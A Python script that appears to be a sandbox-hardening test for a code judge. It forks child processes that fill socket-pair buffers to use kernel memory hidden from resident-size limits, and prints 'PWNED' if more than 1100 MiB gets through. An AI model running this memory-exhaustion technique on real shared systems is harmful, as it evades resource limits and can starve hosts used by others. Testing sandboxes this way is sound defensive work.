# Children fill the buffers of socket pairs: memory of the kernel that belongs to nobody's resident size.
# verdicts: WA MLE TLE RE
import os
import socket
import time

read, write = os.pipe()
os.set_blocking(read, False)
block, children = b'x' * (32 << 10), 0
for _ in range(20):
  try:
    pid = os.fork()
  except OSError:
    break
  children += 1
  if pid == 0:
    held, mib = [], 0
    try:
      for _ in range(110):
        pair = socket.socketpair()
        held.append(pair)
        for end in pair:
          end.setblocking(False)
          end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
          try:
            while True:
              mib += end.send(block) / (1 << 20)
          except BlockingIOError:
            pass
    except OSError:
      pass
    os.write(write, b'%6d' % mib)
    time.sleep(20)
    os._exit(0)
end, total = time.monotonic() + 4, 0
while total <= 1100 and children and time.monotonic() < end:
  time.sleep(0.01)
  try:
    total += int(os.read(read, 6))
    children -= 1
  except BlockingIOError:
    pass
print('PWNED' if total > 1100 else 'refused')
